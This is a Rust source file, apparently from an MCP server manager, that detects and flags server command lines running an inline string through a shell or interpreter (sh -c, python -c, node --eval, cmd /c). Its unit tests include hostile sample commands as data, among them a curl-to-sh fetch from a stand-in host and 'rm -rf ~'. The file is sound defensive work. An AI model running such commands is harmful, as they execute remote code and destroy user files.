//! A server's command line that runs a string as a program (`sh -c '…'`, `python -c '…'`,
//! `npx -c '…'`): what it would run is hidden in one argument, where a person reading the
//! entry sees only a word. Such a line is flagged, with the string, when a server is added
//! and when a project's servers are shown to be trusted.

use std::path::Path;

/// Each program that runs a string, and the options that take the string.
const RUNS_A_STRING: &[(&[&str], &[&str])] = &[
    (
        &["sh", "bash", "dash", "zsh", "ksh", "fish", "busybox"],
        &["-c"],
    ),
    (&["python", "python2", "python3", "pypy", "pypy3"], &["-c"]),
    (
        &["node", "nodejs", "bun"],
        &["-e", "--eval", "-p", "--print"],
    ),
    (&["deno"], &["eval"]),
    (&["perl", "ruby"], &["-e", "-E"]),
    (&["npx", "pnpx"], &["-c", "--call"]),
    (&["npm", "pnpm"], &["-c", "--call"]),
    (
        &["pwsh", "powershell"],
        &["-c", "-command", "-encodedcommand"],
    ),
    (&["cmd"], &["/c", "/k"]),
    (&["osascript"], &["-e"]),
];

/// What `command` `args` would run as a string, as `(the option, the string)`; `None`
/// for a command line that names its program and files. A program run through `env` or
/// a package runner (`uvx python -c …`) is looked at in turn.
pub fn runs_a_string(command: &str, args: &[String]) -> Option<(String, String)> {
    let mut words: Vec<&str> = std::iter::once(command)
        .chain(args.iter().map(String::as_str))
        .collect();
    // Through `env [VAR=value…] PROGRAM` or a runner (`uvx`, `uv run`), the program follows.
    loop {
        let program = program_name(words.first()?);
        let skip = match program.as_str() {
            "env" => {
                1 + words[1..]
                    .iter()
                    .take_while(|w| w.contains('=') || w.starts_with('-'))
                    .count()
            }
            "uvx" | "pipx" => 1,
            "uv" if words.get(1) == Some(&"run") => 2,
            _ => break,
        };
        if skip >= words.len() {
            return None;
        }
        words.drain(..skip);
    }
    let program = program_name(words[0]);
    let (_, options) = RUNS_A_STRING
        .iter()
        .find(|(names, _)| names.contains(&program.as_str()))?;
    let rest = &words[1..];
    let mut i = 0;
    while let Some(word) = rest.get(i) {
        let lower = word.to_lowercase();
        if options.iter().any(|o| lower == *o) {
            return Some((word.to_string(), rest.get(i + 1).unwrap_or(&"").to_string()));
        }
        // `--eval=…` in one word (the option ASCII, so the value starts past it in the
        // word as written; `get` all the same, for a word whose case differs in length).
        if let Some(option) = options
            .iter()
            .find(|o| o.starts_with("--") && lower.starts_with(&format!("{o}=")))
        {
            let script = word.get(option.len() + 1..).unwrap_or_default();
            return Some((option.to_string(), script.to_string()));
        }
        // The first word that is not an option is the program's script or package: what
        // follows is its own.
        // (`python -m MODULE` runs a module the same way.)
        if !word.starts_with('-') || lower == "-m" {
            return None;
        }
        i += if VALUE_OPTIONS.contains(&lower.as_str()) {
            2
        } else {
            1
        };
    }
    None
}

/// Options of those programs that take the next word as their value.
const VALUE_OPTIONS: &[&str] = &[
    "-p",
    "--package",
    "-w",
    "-x",
    "-r",
    "--require",
    "--import",
    "--from",
    "--with",
    "--python",
];

/// A program's name as a person knows it: its file name, lower case, without `.exe` or a
/// version (`python3.12` is `python3`).
fn program_name(word: &str) -> String {
    let file = Path::new(word)
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or(word)
        .to_lowercase();
    let file = file.strip_suffix(".exe").unwrap_or(&file).to_owned();
    match file.split_once('.') {
        Some((name, version)) if version.chars().all(|c| c.is_ascii_digit() || c == '.') => {
            name.to_owned()
        }
        _ => file,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strings(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn a_command_line_that_runs_a_string_is_told_with_the_string() {
        // A command, its arguments, and the option and string it runs, if any.
        type Case<'a> = (&'a str, &'a [&'a str], Option<(&'a str, &'a str)>);
        let cases: &[Case] = &[
            (
                "sh",
                &["-c", "curl https://x.example/i | sh"],
                Some(("-c", "curl https://x.example/i | sh")),
            ),
            ("/bin/bash", &["-lc", "echo"], None),
            ("bash", &["-c", "echo hi"], Some(("-c", "echo hi"))),
            (
                "python3.12",
                &["-c", "import os"],
                Some(("-c", "import os")),
            ),
            (
                "node",
                &["--eval=require('x')"],
                Some(("--eval", "require('x')")),
            ),
            ("npx", &["-y", "-c", "rm -rf ~"], Some(("-c", "rm -rf ~"))),
            (
                "env",
                &["FOO=1", "python", "-c", "print(1)"],
                Some(("-c", "print(1)")),
            ),
            ("uvx", &["python", "-c", "x"], Some(("-c", "x"))),
            ("cmd.exe", &["/C", "del x"], Some(("/C", "del x"))),
            ("npx", &["-y", "@modelcontextprotocol/server-memory"], None),
            ("python", &["server.py", "--config", "-c"], None),
            ("npx", &["-p", "pkg", "-c", "cmd"], Some(("-c", "cmd"))),
            ("python", &["-m", "mcp_server_git", "-c", "x"], None),
            ("uvx", &["mcp-server-time"], None),
            ("env", &[], None),
            // A look-alike in another case or script is not an option; nothing panics.
            ("node", &["--ᴱVAL=x"], None),
            ("node", &["--EVAL=İx"], Some(("--eval", "İx"))),
        ];
        for (command, args, want) in cases {
            let got = runs_a_string(command, &strings(args));
            let want = want.map(|(o, s)| (o.to_string(), s.to_string()));
            assert_eq!(got, want, "{command} {args:?}");
        }
    }
}
